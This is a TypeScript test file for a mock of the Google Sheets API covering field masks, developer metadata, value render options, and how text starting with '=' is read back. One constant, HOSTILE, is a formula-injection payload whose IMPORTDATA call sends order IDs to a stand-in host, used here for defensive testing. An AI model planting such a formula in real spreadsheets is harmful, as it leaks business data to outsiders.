/**
 * What the sync's set-up reads rely on, as the Sheets API v4 documents it: partial responses of
 * spreadsheets.get (only the fields asked for), developer metadata resources on sheets, and
 * values.batchGet with its render options.
 */
import { describe, expect, it } from 'vitest';
import { lineItemsBook, renderedLineItemsBook } from './sheets-api-fixture';

const ID = 'book-reads';

function setup() {
  return lineItemsBook(ID);
}

describe('Spreadsheets.get: field masks', () => {
  it('returns only the fields the mask names, through the sheets list', () => {
    const { Sheets, items } = setup();
    items.insertRowsAfter(1000, 500);
    const got = Sheets.Spreadsheets.get(ID, { fields: 'sheets(properties(sheetId,title,gridProperties))' });
    expect(got).toEqual({
      sheets: [
        { properties: { sheetId: 0, title: 'Sheet1', gridProperties: { rowCount: 1000, columnCount: 26 } } },
        {
          properties: {
            sheetId: items.getSheetId(),
            title: 'Line items',
            gridProperties: { rowCount: 1500, columnCount: 26 },
          },
        },
      ],
    });
  });

  it('takes dotted and slashed paths, merges them, and "*" selects everything below', () => {
    const { Sheets } = setup();
    expect(Sheets.Spreadsheets.get(ID, { fields: 'properties.timeZone,sheets/properties/title' })).toEqual({
      properties: { timeZone: 'America/New_York' },
      sheets: [{ properties: { title: 'Sheet1' } }, { properties: { title: 'Line items' } }],
    });
    const all = Sheets.Spreadsheets.get(ID, { fields: 'sheets(properties(*))' }) as {
      sheets: Array<{ properties: Record<string, unknown> }>;
    };
    expect(Object.keys(all.sheets[1].properties).sort()).toEqual([
      'gridProperties',
      'index',
      'sheetId',
      'sheetType',
      'title',
    ]);
  });

  it('refuses a malformed mask with a 400 error', () => {
    const { Sheets } = setup();
    expect(() => Sheets.Spreadsheets.get(ID, { fields: 'sheets(properties' })).toThrow(/Invalid field selection/);
    expect(() => Sheets.Spreadsheets.get(ID, { fields: 'sheets,,title' })).toThrow(/Invalid field selection/);
  });
});

describe('Spreadsheets.get: developer metadata', () => {
  it("lists a sheet's own metadata with metadataId, metadataKey, metadataValue, location and visibility", () => {
    const { Sheets, ss, items } = setup();
    items.addDeveloperMetadata('table', 'Line items');
    items.addDeveloperMetadata('flag', 'PROJECT');
    items.getRange('3:3').addDeveloperMetadata('row-tag', 'x');
    ss.addDeveloperMetadata('book', 'yes');
    const got = Sheets.Spreadsheets.get(ID, {
      fields: 'developerMetadata,sheets(properties(title),developerMetadata)',
    }) as {
      developerMetadata: unknown[];
      sheets: Array<{ properties: { title: string }; developerMetadata?: Array<Record<string, unknown>> }>;
    };
    // A sheet without metadata has no developerMetadata field at all (the API leaves out empty lists).
    expect(got.sheets[0]).toEqual({ properties: { title: 'Sheet1' } });
    const tags = got.sheets[1].developerMetadata ?? [];
    expect(tags.map((m) => [m.metadataKey, m.metadataValue, m.location, m.visibility])).toEqual([
      ['table', 'Line items', { locationType: 'SHEET', sheetId: items.getSheetId() }, 'DOCUMENT'],
      // No value: metadataValue is absent.
      ['flag', undefined, { locationType: 'SHEET', sheetId: items.getSheetId() }, 'PROJECT'],
    ]);
    expect(tags.every((m) => typeof m.metadataId === 'number' && (m.metadataId as number) > 0)).toBe(true);
    expect(got.developerMetadata).toEqual([
      expect.objectContaining({
        metadataKey: 'book',
        metadataValue: 'yes',
        location: { locationType: 'SPREADSHEET', spreadsheet: true },
      }),
    ]);
  });

  it('metadata ids match what SpreadsheetApp reports, and sub-masks pick fields of each entry', () => {
    const { Sheets, items } = setup();
    items.addDeveloperMetadata('store', 'st_1');
    const id = items.getDeveloperMetadata()[0].getId();
    expect(
      Sheets.Spreadsheets.get(ID, { fields: 'sheets(developerMetadata(metadataId,location(locationType)))' }),
    ).toEqual({
      sheets: [{}, { developerMetadata: [{ metadataId: id, location: { locationType: 'SHEET' } }] }],
    });
  });
});

describe('Values.batchGet: render options', () => {
  const filled = () => renderedLineItemsBook(ID);

  it('FORMATTED_VALUE (the default) gives the text shown; dateTimeRenderOption is then ignored', () => {
    const { Sheets } = filled();
    const got = Sheets.Spreadsheets.Values.batchGet(ID, {
      ranges: ["'Line items'!A2:D2"],
      dateTimeRenderOption: 'SERIAL_NUMBER',
    });
    expect(got.valueRanges).toEqual([
      {
        range: "'Line items'!A2:D2",
        majorDimension: 'ROWS',
        values: [['li_1', '2024-01-15 12:00', '1,234.50', 'TRUE']],
      },
    ]);
  });

  it('UNFORMATTED_VALUE gives numbers, dates as serials by default or as text with FORMATTED_STRING', () => {
    const { Sheets } = filled();
    const serial = Sheets.Spreadsheets.Values.batchGet(ID, {
      ranges: ["'Line items'!A2:D2"],
      valueRenderOption: 'UNFORMATTED_VALUE',
    });
    expect((serial.valueRanges[0] as { values: unknown[][] }).values).toEqual([['li_1', 45306.5, 1234.5, true]]);
    const text = Sheets.Spreadsheets.Values.batchGet(ID, {
      ranges: ["'Line items'!B2:C2"],
      valueRenderOption: 'UNFORMATTED_VALUE',
      dateTimeRenderOption: 'FORMATTED_STRING',
    });
    expect((text.valueRanges[0] as { values: unknown[][] }).values).toEqual([['2024-01-15 12:00', 1234.5]]);
  });

  it('answers every range in order, leaving out trailing empty rows and cells but keeping empty rows inside', () => {
    const { Sheets } = filled();
    const got = Sheets.Spreadsheets.Values.batchGet(ID, {
      ranges: ["'Line items'!A1:E1", "'Line items'!A2:B1000", "'Line items'!F1:F9"],
      valueRenderOption: 'UNFORMATTED_VALUE',
    });
    expect(got.valueRanges).toEqual([
      { range: "'Line items'!A1:E1", majorDimension: 'ROWS', values: [['id', 'placed', 'amount', 'flag']] },
      { range: "'Line items'!A2:B1000", majorDimension: 'ROWS', values: [['li_1', 45306.5], [], [], ['note']] },
      { range: "'Line items'!F1:F9", majorDimension: 'ROWS' },
    ]);
  });

  it("refuses a request whose URL passes 16,384 characters (414), as Google's front end does; one under it is answered", () => {
    const { Sheets } = filled();
    // "'Line items'!A1:A1" is "ranges=%27Line%20items%27!A1%3AA1": 34 characters and an "&" in the query.
    const ranges = (n: number): string[] => Array.from({ length: n }, (_, i) => `'Line items'!A${i + 1}:A${i + 1}`);
    const base = `https://sheets.googleapis.com/v4/spreadsheets/${ID}/values:batchGet?`.length;
    const urlOf = (rs: string[]): number =>
      base +
      rs.map((r) => `ranges=${encodeURIComponent(r)}`).join('&').length +
      '&valueRenderOption=UNFORMATTED_VALUE'.length;
    let fits = 1;
    while (urlOf(ranges(fits + 1)) <= 16_384) fits++;
    const got = Sheets.Spreadsheets.Values.batchGet(ID, {
      ranges: ranges(fits),
      valueRenderOption: 'UNFORMATTED_VALUE',
    });
    expect(got.valueRanges).toHaveLength(fits);
    expect(() =>
      Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ranges(fits + 1), valueRenderOption: 'UNFORMATTED_VALUE' }),
    ).toThrow(
      `API call to sheets.spreadsheets.values.batchGet failed with error: Request-URI Too Large: the request's URL has ${urlOf(ranges(fits + 1))} characters`,
    );
  });

  it('refuses an unknown render option', () => {
    const { Sheets } = filled();
    expect(() =>
      Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ['A1'], valueRenderOption: 'RAW' as never }),
    ).toThrow("Invalid value at 'value_render_option' (RAW)");
    expect(() =>
      Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ['A1'], dateTimeRenderOption: 'ISO' as never }),
    ).toThrow("Invalid value at 'date_time_render_option' (ISO)");
  });
});

describe('text that starts with "=" is not a formula, on every read path', () => {
  const HOSTILE =
    '=PROFIT_SUMMARY("2026-10-01","2026-10-31")&IMPORTDATA("https://x/?d="&ENCODEURL(JOIN(",",Orders!A2:A50)))';

  /** B2 a real formula; C2 the same text written RAW (a form response, a pasted CSV); C3 typed after an apostrophe. */
  function report() {
    const { Sheets, items } = setup();
    Sheets.Spreadsheets.Values.batchUpdate(
      {
        valueInputOption: 'USER_ENTERED',
        data: [
          { range: "'Line items'!B2", values: [['=SUM(1,2)']] },
          { range: "'Line items'!C3", values: [[`'${HOSTILE}`]] },
        ],
      },
      ID,
    );
    Sheets.Spreadsheets.Values.batchUpdate(
      { valueInputOption: 'RAW', data: [{ range: "'Line items'!C2", values: [[HOSTILE]] }] },
      ID,
    );
    return { Sheets, items };
  }

  it('Values.get with FORMULA and getValues give the text as a formula; getFormulas and grid data tell them apart', () => {
    const { Sheets, items } = report();
    expect(Sheets.Spreadsheets.Values.get(ID, "'Line items'!B2:C3", { valueRenderOption: 'FORMULA' }).values).toEqual([
      ['=SUM(1,2)', HOSTILE],
      ['', HOSTILE],
    ]);
    expect(items.getRange('B2:C3').getFormulas()).toEqual([
      ['=SUM(1,2)', ''],
      ['', ''],
    ]);
    // Grid data: formulaValue for the formula, stringValue for the text; ranges keep only their sheets.
    const fields = 'sheets(properties.title,data(startRow,startColumn,rowData.values.userEnteredValue))';
    expect(Sheets.Spreadsheets.get(ID, { ranges: ["'Line items'!B2:D9"], fields })).toEqual({
      sheets: [
        {
          properties: { title: 'Line items' },
          data: [
            {
              startRow: 1,
              startColumn: 1,
              rowData: [
                {
                  values: [
                    { userEnteredValue: { formulaValue: '=SUM(1,2)' } },
                    { userEnteredValue: { stringValue: HOSTILE } },
                  ],
                },
                { values: [{}, { userEnteredValue: { stringValue: HOSTILE } }] },
              ],
            },
          ],
        },
      ],
    });
  });

  it('Spreadsheets.get gives no grid data unless includeGridData or the mask asks for it', () => {
    const { Sheets } = report();
    const plain = Sheets.Spreadsheets.get(ID, { ranges: ["'Line items'!B2:C3"] }) as {
      sheets: Array<Record<string, unknown>>;
    };
    expect(plain.sheets.map((s) => s.data)).toEqual([undefined]);
    const grid = Sheets.Spreadsheets.get(ID, { ranges: ["'Line items'!B2:C3"], includeGridData: true }) as {
      sheets: Array<{ data: unknown[] }>;
    };
    expect(grid.sheets[0].data).toHaveLength(1);
    expect(() => Sheets.Spreadsheets.get(ID, { ranges: ["'No such'!A1"], includeGridData: true })).toThrow(
      /Unable to parse range/,
    );
  });
});
